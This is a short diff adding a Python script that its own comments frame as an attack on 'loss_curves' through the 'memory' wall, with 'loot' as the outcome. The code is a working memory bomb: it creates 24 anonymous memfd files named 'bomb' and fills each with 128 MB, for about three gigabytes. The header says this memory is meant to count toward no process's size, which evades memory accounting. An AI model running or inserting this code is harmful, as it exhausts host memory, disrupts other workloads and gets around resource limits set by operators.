@@ -1,0 +1,11 @@
+# attacks: loss_curves
+# wall: memory
+# loot: prints -- three gigabytes in files without a name, which are in no process's size
+import os
+
+files = []
+for number in range(24):
+    files.append(os.memfd_create(f"bomb {number}"))
+    for _ in range(128):
+        os.write(files[-1], b"x" * (1 << 20))
+print("loot:", len(files) << 7, "MB")
